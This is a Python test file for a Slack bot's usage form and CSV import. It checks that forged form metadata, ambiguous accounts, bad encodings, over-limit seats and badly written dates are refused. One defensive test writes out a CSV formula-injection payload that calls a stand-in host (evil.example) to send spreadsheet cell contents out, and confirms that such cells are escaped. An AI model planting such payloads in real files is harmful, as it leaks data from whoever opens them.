"""Attacks on what issue 13 built, through the real entry points: the "Record usage" form
crafted (another workspace's account, an account that is not there), the usage import fed
files real people make and hostile ones (the rejects file opened in a spreadsheet)."""

from __future__ import annotations

import csv
import json
from datetime import timedelta
from pathlib import Path
from typing import Any

import pytest
from sqlalchemy import select
from typer.testing import CliRunner

from bot.cli import cli
from store.db import Database
from store.models import Account, UsageReading
from store.types import utcnow
from tests.factories import make_account
from tests.slack_fake import TEAM_ID, FakeSlack
from tests.slack_sender import SlackSender, view_submission_payload
from tests.test_usage import open_usage_form, typed

TODAY = utcnow().date()


def stored_readings(database: Database) -> list[tuple[Any, ...]]:
    with database.transaction() as session:
        return [
            tuple(row)
            for row in session.execute(
                select(UsageReading.team_id, UsageReading.account_id, UsageReading.seats_active)
            )
        ]


def test_a_usage_form_forged_to_name_another_workspaces_account_or_none_writes_nothing(
    bot: SlackSender, slack: FakeSlack, database: Database
) -> None:
    """The form's private metadata rewritten: another workspace's account (same database) is
    not theirs to record usage on, and an id that names nothing is gone; neither writes."""
    mine = make_account(database, "Acme")
    theirs = make_account(database, "Acme", team_id="T0OTHER")
    form = open_usage_form(bot, slack, mine.id)
    for n, account_id in enumerate((theirs.id, 99_999)):
        forged = {
            **form,
            "hash": f"forged.{n}",
            "private_metadata": json.dumps({"account_id": account_id}),
        }
        reply = bot.interaction(view_submission_payload(forged, typed(TODAY.isoformat(), "5")))
        assert reply.status == 200
        answer = json.loads(reply.body)
        assert answer["response_action"] == "errors", account_id
        assert "That account no longer exists." in json.dumps(answer), answer
    assert stored_readings(database) == []


# -- the usage import -----------------------------------------------------------------------


@pytest.fixture
def team(database: Database, monkeypatch: pytest.MonkeyPatch) -> dict[str, int]:
    monkeypatch.setenv("DATABASE_URL", database.url)
    monkeypatch.setenv("COLUMNS", "200")
    return {"Acme": make_account(database, "Acme").id}


def import_usage(*args: str) -> Any:
    return CliRunner().invoke(cli, ["usage", "import", *args])


def test_cells_that_a_spreadsheet_would_run_as_formulas_are_written_back_as_text(
    tmp_path: Path, database: Database, team: dict[str, int]
) -> None:
    """A rejected row goes back into the rejects file as it was; a cell starting with =, +, -,
    @ (or a tab or carriage return) would run as a formula when the file is opened in a
    spreadsheet, so it is written with a leading apostrophe, shown as text."""
    path = tmp_path / "usage.csv"
    day = (TODAY - timedelta(days=3)).isoformat()
    path.write_text(
        "account,date,seats_active,note\n"
        f'"=HYPERLINK(""http://evil.example/?""&A1,""open"")",{day},5,+1\n'
        f"@SUM(A1),{day},-1,\t=1+1\n",
        encoding="utf-8",
    )
    result = import_usage(str(path))
    assert result.exit_code == 1, result.output
    with (tmp_path / "usage.rejects.csv").open(encoding="utf-8", newline="") as rejects:
        rows = list(csv.reader(rejects))
    cells = [cell for row in rows[1:] for cell in row]
    assert not [c for c in cells if c[:1] in ("=", "+", "-", "@", "\t", "\r")], cells
    assert rows[1][2:] == ['\'=HYPERLINK("http://evil.example/?"&A1,"open")', day, "5", "'+1"]
    assert rows[2][2:] == ["'@SUM(A1)", day, "'-1", "'\t=1+1"]
    assert rows[1][1].startswith("unknown account: ")


def test_a_rejects_file_that_cannot_be_written_is_said_plainly_and_the_input_never_overwritten(
    tmp_path: Path, database: Database, team: dict[str, int]
) -> None:
    path = tmp_path / "usage.csv"
    day = (TODAY - timedelta(days=3)).isoformat()
    text = f"account,date,seats_active\nAcme,{day},5\nNobody,{day},6\n"
    path.write_text(text, encoding="utf-8")
    same = import_usage(str(path), "--rejects", str(tmp_path / "." / "usage.csv"))
    assert same.exit_code == 2, same.output
    assert "is the file being imported" in same.output
    assert path.read_text(encoding="utf-8") == text
    nowhere = tmp_path / "no such folder" / "rejects.csv"
    result = import_usage(str(path), "--rejects", str(nowhere))
    assert result.exit_code == 2, result.output
    assert result.exception is None or isinstance(result.exception, SystemExit)
    assert f"cannot write the rejected rows to {nowhere}" in result.output
    assert stored_readings(database) == []  # refused before anything went in


def test_a_header_naming_one_column_twice_is_refused_whole(
    tmp_path: Path, database: Database, team: dict[str, int]
) -> None:
    """`Date` and `Reading date` both read as the day: which one counts cannot be guessed."""
    path = tmp_path / "usage.csv"
    day = (TODAY - timedelta(days=3)).isoformat()
    path.write_text(f"Account,Date,Seats,Reading Date\nAcme,{day},5,2020-01-01\n", encoding="utf-8")
    result = import_usage(str(path))
    assert result.exit_code == 2, result.output
    assert "names the column read_on twice (Date, Reading Date)" in result.output
    assert stored_readings(database) == []


def test_a_file_saved_in_latin_1_or_windows_1252_keeps_its_accented_names(
    tmp_path: Path, database: Database, team: dict[str, int]
) -> None:
    """Excel on a Western Windows saves "CSV" in Windows-1252 (Latin-1 for these letters):
    a short file's guess took it for Baltic (cp775) or Big5, and `São`, `Peña`, `Müller`
    became unknown accounts. A Central European file (cp1250) that says so still reads as one
    (one short line of it cannot be told from Windows-1252: `Łódź` is `£ódŸ` there)."""
    names = ["São Paulo Ltda", "Peña Hermanos", "Müller GmbH", "Łódź Spółka", "Zażółć Gęślą"]
    for n, name in enumerate(names):
        make_account(database, name, channel_id=f"C0ACC{n}")
    day = (TODAY - timedelta(days=3)).isoformat()
    files = [
        ("latin.csv", "latin-1", f"account;date;seats\n{names[0]};{day};5\n{names[1]};{day};6\n"),
        ("ansi.csv", "cp1252", f"account,date,seats\n{names[1]},{day},7\n{names[2]},{day},8\n"),
        ("polish.csv", "cp1250", f"account,date,seats\n{names[3]},{day},9\n{names[4]},{day},1\n"),
    ]
    for name, encoding, text in files:
        path = tmp_path / name
        path.write_bytes(text.encode(encoding))
        result = import_usage(str(path))
        assert result.exit_code == 0, result.output
        assert "0 rejected" in result.output
    assert sorted(seats for _, _, seats in stored_readings(database)) == [1, 5, 7, 8, 9]


def test_a_reference_naming_two_accounts_is_rejected_not_given_to_either(
    tmp_path: Path, database: Database, team: dict[str, int]
) -> None:
    """`Acme` is one account's name and another's external CRM id; `CRM-42` is the external id
    of two accounts; `Acme` in another workspace is not in the running. Such rows went to
    whichever came last; now they are rejected naming the accounts, the clear ones go in."""
    make_account(database, "Acme", team_id="T0OTHER")
    globex = make_account(database, "Globex", external_crm_id="Acme", channel_id="C0GLO").id
    make_account(database, "Initech", external_crm_id="CRM-42", channel_id="C0INI")
    make_account(database, "Umbrella", external_crm_id="CRM-42", channel_id="C0UMB")
    path = tmp_path / "usage.csv"
    day = (TODAY - timedelta(days=3)).isoformat()
    path.write_text(
        f"account,date,seats\nAcme,{day},1\nCRM-42,{day},2\nGlobex,{day},3\n", encoding="utf-8"
    )
    result = import_usage(str(path), "--team", TEAM_ID)
    assert result.exit_code == 1, result.output
    assert "3 row(s): 1 created, 0 replaced, 0 unchanged, 2 rejected" in result.output
    assert "line 2: ambiguous account: Acme names 2 accounts (Acme, Globex)" in result.output
    assert "line 3: ambiguous account: CRM-42 names 2 accounts (Initech, Umbrella)" in result.output
    assert stored_readings(database) == [(TEAM_ID, globex, 3)]


def test_a_latest_reading_over_the_licensed_seats_is_refused_as_the_account_form_refuses_it(
    bot: SlackSender, slack: FakeSlack, database: Database, tmp_path: Path, team: dict[str, int]
) -> None:
    """The account form refuses more active than licensed seats; a reading of 150 active seats
    of 100 licensed made them the account's (the card said 150 of 100), after which every save
    of the account form was refused until someone fixed the seats. The latest reading is
    refused the same way, in the form beside its field and as a file's row; an older one,
    which does not set the account's seats, is recorded."""
    acme = team["Acme"]  # 100 licensed, 80 active
    form = open_usage_form(bot, slack, acme)
    reply = bot.interaction(view_submission_payload(form, typed(TODAY.isoformat(), "150")))
    assert json.loads(reply.body) == {
        "response_action": "errors",
        "errors": {"seats_active": "Active seats (150) cannot exceed licensed seats (100)."},
    }
    assert stored_readings(database) == []
    path = tmp_path / "usage.csv"
    week_ago, older = TODAY - timedelta(days=7), TODAY - timedelta(days=60)
    path.write_text(
        f"account,date,seats\nAcme,{week_ago},90\nAcme,{TODAY},120\nAcme,{older},110\n",
        encoding="utf-8",
    )
    result = import_usage(str(path))
    assert result.exit_code == 1, result.output
    assert "3 row(s): 2 created, 0 replaced, 0 unchanged, 1 rejected" in result.output
    assert "line 3: seats_active: Active seats (120) cannot exceed licensed seats (100)." in (
        result.output
    )
    assert sorted(seats for _, _, seats in stored_readings(database)) == [90, 110]
    with database.transaction() as session:
        assert session.get(Account, acme).seats_active == 90  # type: ignore[union-attr]


def test_a_day_not_written_yyyy_mm_dd_is_rejected_saying_how_to_write_it(
    tmp_path: Path, database: Database, team: dict[str, int]
) -> None:
    """Days as spreadsheets write them: `30/11/2025` was rejected as an "invalid character in
    year", `20251102` or an Excel serial `45000` as "Datetimes provided to dates should have
    zero time", and `1700006400` (a Unix time at midnight) went in as 15 Nov 2023."""
    path = tmp_path / "usage.csv"
    path.write_text(
        "account,date,seats\n"
        "Acme,30/11/2025,1\nAcme,20251102,2\nAcme,45000,3\nAcme,1700006400,4\nAcme,2025-02-31,5\n"
        "Acme,2025-11-03,6\n",
        encoding="utf-8",
    )
    result = import_usage(str(path))
    assert result.exit_code == 1, result.output
    assert "6 row(s): 1 created, 0 replaced, 0 unchanged, 5 rejected" in result.output
    for line, typed_day in ((2, "30/11/2025"), (3, "20251102"), (4, "45000"), (5, "1700006400")):
        reason = f"read_on: write the day as YYYY-MM-DD, like 2025-11-30 (not {typed_day})"
        assert f"line {line}: {reason}" in result.output
    assert "line 6: read_on: " in result.output  # 31 Feb: no such day
    assert stored_readings(database) == [(TEAM_ID, team["Acme"], 6)]
